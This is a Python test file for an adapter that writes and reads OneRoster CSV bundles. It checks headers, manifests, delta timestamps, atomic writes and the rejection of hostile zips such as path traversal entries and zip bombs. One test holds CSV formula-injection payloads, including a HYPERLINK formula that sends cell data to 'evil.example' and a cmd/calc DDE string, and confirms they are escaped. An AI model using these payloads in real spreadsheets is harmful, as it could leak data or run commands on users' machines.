"""OneRoster CSV bundles: round trips with the exact headers of 1.1 and 1.2, deltas, hostile zips."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

import pytest

from adapters.base import Change, ReadScope
from adapters.errors import DataError
from adapters.oneroster import OneRosterCsvAdapter
from adapters.oneroster.csvbundle import BundleReader, Limits
from adapters.oneroster.spec import CSV_FILES, CSV_HEADERS
from adapters.records import Course, Enrollment, LineItem, Person, Score

WHEN = datetime(2025, 12, 1, 8, 30, tzinfo=UTC)
PEOPLE = [Person(student_number="2025001", name="张三", email="zs@example.edu", username="zhangsan"),
          Person(student_number="007", name="Ada Lovelace", external_ids={"oneroster": "ada"})]


def _changes(stream, records):
    return [Change(key=f"{stream}-{i}", stream=stream, action="create", record=r) for i, r in enumerate(records)]


def _write_bundle(path, version, mode="bulk"):
    adapter = OneRosterCsvAdapter(path, version=version, mode=mode)
    with adapter:
        assert {r.status for r in adapter.write("courses", _changes("courses", [
            Course(course_id="c1", title="Python 程序设计", class_id="PY-01")]))} == {"applied"}
        adapter.write("enrollments", _changes("enrollments", [
            Enrollment(person=PEOPLE[0], course_id="c1", updated_at=WHEN),
            Enrollment(person=PEOPLE[1], course_id="c1", role="teacher", updated_at=WHEN)]))
        adapter.write("line_items", _changes("line_items", [
            LineItem(course_id="c1", line_item_id="li1", title="作业一", max_score=50, updated_at=WHEN)]))
        adapter.write("scores", _changes("scores", [
            Score(person=PEOPLE[0], course_id="c1", line_item_id="li1", value=45, max_score=50, scale="points",
                  timestamp=WHEN, comment="好")]))
    return adapter


@pytest.mark.parametrize("version", ["1.1", "1.2"])
def test_write_then_read_gives_the_same_records(tmp_path, version):
    path = tmp_path / "bundle.zip"
    _write_bundle(path, version)
    reader = OneRosterCsvAdapter(path)
    people = {p.student_number: p for p in reader.read("persons")}
    assert people["2025001"].name == "张三" and people["2025001"].email == "zs@example.edu"
    assert people["007"].name == "Ada Lovelace" and people["007"].external_ids == {"oneroster": "ada"}
    assert [(c.course_id, c.title, c.class_id) for c in reader.read("courses")] == [("c1", "Python 程序设计", "PY-01")]
    enrollments = sorted(reader.read("enrollments"), key=lambda e: e.role)
    assert [(e.person.student_number, e.role, e.status) for e in enrollments] == [
        ("2025001", "student", "active"), ("007", "teacher", "active")]
    (item,) = reader.read("line_items")
    assert (item.line_item_id, item.title, item.max_score) == ("li1", "作业一", 50)
    (score,) = reader.read("scores")
    assert (score.value, score.max_score, score.status, score.comment) == (45, 50, "graded", "好")
    assert score.person.student_number == "2025001"


@pytest.mark.parametrize("version", ["1.1", "1.2"])
def test_written_headers_and_manifest_are_exact(tmp_path, version):
    path = tmp_path / "bundle.zip"
    _write_bundle(path, version)
    with zipfile.ZipFile(path) as archive:
        names = set(archive.namelist())
        manifest = list(csv.reader(io.StringIO(archive.read("manifest.csv").decode())))
        for name in names - {"manifest.csv"}:
            text = archive.read(name).decode("utf-8")
            assert not text.startswith("\ufeff")
            header = next(csv.reader(io.StringIO(text)))
            assert header[: len(CSV_HEADERS[version][name])] == list(CSV_HEADERS[version][name])
            for row in list(csv.reader(io.StringIO(text)))[1:]:
                assert row[1] == "" and row[2] == "", "bulk rows leave status and dateLastModified blank"
    assert manifest[0] == ["propertyName", "value"]
    props = dict(manifest[1:])
    assert props["manifest.version"] == "1.0" and props["oneroster.version"] == version
    assert {k for k in props if k.startswith("file.")} == {f"file.{n[:-4]}" for n in CSV_FILES[version]}
    assert props["file.users"] == "bulk" and props["file.demographics"] == "absent"
    assert ("roles.csv" in names) == (version == "1.2")
    if version == "1.1":
        users = archive_header(path, "users.csv")
        assert users[4:6] == ["orgSourcedIds", "role"]


def archive_header(path, name):
    with zipfile.ZipFile(path) as archive:
        return next(csv.reader(io.StringIO(archive.read(name).decode())))


def test_delta_bundle_marks_removals_and_dates_rows_at_the_write(tmp_path):
    path = tmp_path / "delta.zip"
    before = datetime.now(UTC).replace(microsecond=0)
    with OneRosterCsvAdapter(path, version="1.2", mode="delta") as adapter:
        adapter.write("enrollments", [Change(key="a", stream="enrollments", action="update", record=Enrollment(
            person=PEOPLE[0], course_id="c1", status="inactive", updated_at=WHEN))])
    after = datetime.now(UTC)
    reader = OneRosterCsvAdapter(path)
    (enrollment,) = reader.read("enrollments")
    assert enrollment.status == "inactive"
    assert list(reader.read("enrollments", ReadScope(since=after))) == []
    assert len(list(reader.read("enrollments", ReadScope(since=before)))) == 1
    with zipfile.ZipFile(path) as archive:
        assert "file.enrollments,delta" in archive.read("manifest.csv").decode()
        for name in set(archive.namelist()) - {"manifest.csv"}:
            for row in csv.DictReader(io.StringIO(archive.read(name).decode())):
                stamp = datetime.fromisoformat(row["dateLastModified"].replace("Z", "+00:00"))
                assert before <= stamp <= after, f"{name}: {row['dateLastModified']} is not the time of the write"


@pytest.mark.parametrize("version", ["1.1", "1.2"])
def test_every_user_has_the_required_username(tmp_path, version):
    path = tmp_path / "bundle.zip"
    _write_bundle(path, version)
    with zipfile.ZipFile(path) as archive:
        users = {r["sourcedId"]: r for r in csv.DictReader(io.StringIO(archive.read("users.csv").decode()))}
    assert users["2025001"]["username"] == "zhangsan"
    assert users["ada"]["username"] == "ada", "no username of its own: the sourcedId it is given"
    assert all(row["username"] for row in users.values())


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"查看")', "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(A1:A9)", "\t=1+1"])
def test_formula_like_text_is_written_behind_a_quote_and_read_back_as_given(tmp_path, name):
    path = tmp_path / "bundle.zip"
    person = Person(student_number="2025009", name=name, phone="+86 138 0000 0000")
    with OneRosterCsvAdapter(path) as adapter:
        assert adapter.write("persons", _changes("persons", [person]))[0].status == "applied"
        title = adapter.write("courses", _changes("courses", [Course(course_id="c1", title=name)]))
        assert title[0].status == "applied"
    with zipfile.ZipFile(path) as archive:
        cells = [c for n in ("users.csv", "classes.csv", "courses.csv")
                 for row in csv.reader(io.StringIO(archive.read(n).decode())) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t") and c != person.phone]
    written = Course(course_id="c1", title=name).title  # as a record keeps it (stripped)
    assert cells.count("'" + written) >= 2  # the class's title and its course's, and the name's parts
    reader = OneRosterCsvAdapter(path)
    (back,) = reader.read("persons")
    assert back.name == written and back.phone == person.phone
    assert [c.title for c in reader.read("courses")] == [written]


def test_identifiers_that_look_like_formulas_are_refused_not_changed(tmp_path):
    path = tmp_path / "bundle.zip"
    good = Person(student_number="2025001", name="张三")
    bad = Person(student_number="=1+1", name="李四")
    with OneRosterCsvAdapter(path) as adapter:
        results = adapter.write("persons", _changes("persons", [good, bad]))
    assert [r.status for r in results] == ["applied", "failed"]
    assert results[1].error["code"] == "formula_cell" and "sourcedId" in results[1].message
    assert [p.student_number for p in OneRosterCsvAdapter(path).read("persons")] == ["2025001"]


def test_writing_is_atomic_and_keeps_the_old_bundle_on_failure(tmp_path, monkeypatch):
    path = tmp_path / "bundle.zip"
    _write_bundle(path, "1.2")
    before = path.read_bytes()
    adapter = OneRosterCsvAdapter(path, version="1.2")
    import adapters.oneroster.csvbundle as bundle

    def boom(*args, **kwargs):
        raise OSError("disk full")

    with monkeypatch.context() as patched:
        patched.setattr(bundle.os, "replace", boom)
        (result,) = adapter.write("courses", _changes("courses", [Course(course_id="c9", title="X")]))
    assert result.status == "failed" and result.retriable and result.error["code"] == "write_failed"
    assert "disk full" in result.message
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["bundle.zip"]
    assert adapter.current(_changes("courses", [Course(course_id="c9", title="X")])[0]) is None, "not on disk"
    assert adapter.write("courses", _changes("courses", [Course(course_id="c9", title="X")]))[0].status == "applied"
    assert {c.course_id for c in OneRosterCsvAdapter(path).read("courses")} == {"c1", "c9"}


def _zip(path, files, manifest=True, version="1.2"):
    with zipfile.ZipFile(path, "w") as archive:
        if manifest:
            rows = ["propertyName,value", "manifest.version,1.0", f"oneroster.version,{version}"]
            rows += [f"file.{n[:-4]},bulk" for n in files if n.endswith(".csv") and "/" not in n]
            archive.writestr("manifest.csv", "\r\n".join(rows) + "\r\n")
        for name, text in files.items():
            archive.writestr(name, text)
    return path


USERS = ",".join(CSV_HEADERS["1.2"]["users.csv"])


@pytest.mark.parametrize(("files", "manifest", "code", "file", "line"), [
    ({"../evil.csv": "x"}, True, "unsafe_entry", "../evil.csv", None),
    ({"sub/users.csv": "x"}, True, "unsafe_entry", "sub/users.csv", None),
    ({"users.csv": USERS + "\r\n"}, False, "missing_manifest", "manifest.csv", None),
    ({"users.csv": "sourcedId,givenName\r\nu1,A\r\n"}, True, "bad_header", "users.csv", 1),
    ({"users.csv": USERS + "\r\nu1,,,true\r\n"}, True, "bad_row", "users.csv", 2),
    ({"users.csv": USERS.encode() + b"\r\n" + b"u1" + b",\xff" * 21 + b"\r\n"}, True, "bad_encoding", "users.csv", 2),
    ({"notes.txt": "hello"}, True, "unsafe_entry", "notes.txt", None),
    ({"results.csv": ",".join(CSV_HEADERS["1.1"]["results.csv"]) + "\r\n"}, True, "bad_header", "results.csv", 1),
])
def test_hostile_bundles_raise_data_errors_with_file_and_line(tmp_path, files, manifest, code, file, line):
    path = _zip(tmp_path / "bad.zip", files, manifest)
    adapter = OneRosterCsvAdapter(path)
    with pytest.raises(DataError) as info:
        list(adapter.read("persons"))
        list(adapter.read("scores"))
    assert info.value.code == code
    assert info.value.where.get("file") == file
    if line is not None:
        assert info.value.where.get("line") == line
    assert [p.name for p in tmp_path.iterdir()] == ["bad.zip"], "reading writes nothing"


def test_manifest_and_file_disagreements(tmp_path):
    path = tmp_path / "m.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("manifest.csv", "propertyName,value\r\nmanifest.version,1.0\r\noneroster.version,1.2\r\n"
                                         "file.users,bulk\r\n")
    with pytest.raises(DataError) as info:
        BundleReader(path)
    assert info.value.code == "missing_file" and info.value.where["file"] == "users.csv"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("manifest.csv", "propertyName,value\r\nmanifest.version,1.0\r\noneroster.version,2.0\r\n")
    with pytest.raises(DataError) as info:
        BundleReader(path)
    assert info.value.code == "unsupported_version"


def test_oversized_and_non_zip_bundles(tmp_path):
    path = _zip(tmp_path / "big.zip", {"users.csv": USERS + "\r\n" + "u1" + "," * 21 + "\r\n" * 10})
    with pytest.raises(DataError) as info:
        BundleReader(path, Limits(max_file_bytes=100))
    assert info.value.code == "too_large"
    bomb = _zip(tmp_path / "bomb.zip", {})
    with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("users.csv", USERS + "\r\n" + " " * 5_000_000)
    with pytest.raises(DataError) as info:
        BundleReader(bomb)
    assert info.value.code == "zip_bomb"
    junk = tmp_path / "junk.zip"
    junk.write_bytes(b"not a zip")
    with pytest.raises(DataError) as info:
        BundleReader(junk)
    assert info.value.code == "bad_zip"


def test_a_bulk_bundle_keeps_the_enrollment_of_a_graded_student(tmp_path):
    path = tmp_path / "bundle.zip"
    _write_bundle(path, "1.2")  # 2025001 has a result in c1
    leave = [Enrollment(person=PEOPLE[0], course_id="c1", status="inactive"),
             Enrollment(person=PEOPLE[1], course_id="c1", role="teacher", status="inactive")]
    with OneRosterCsvAdapter(path) as adapter:
        kept, gone = adapter.write("enrollments", _changes("enrollments", leave))
    assert kept.status == "failed" and kept.error["code"] == "graded_enrollment" and "mode=delta" in kept.message
    assert gone.status == "applied"
    assert [e.person.student_number for e in OneRosterCsvAdapter(path).read("enrollments")] == ["2025001"]
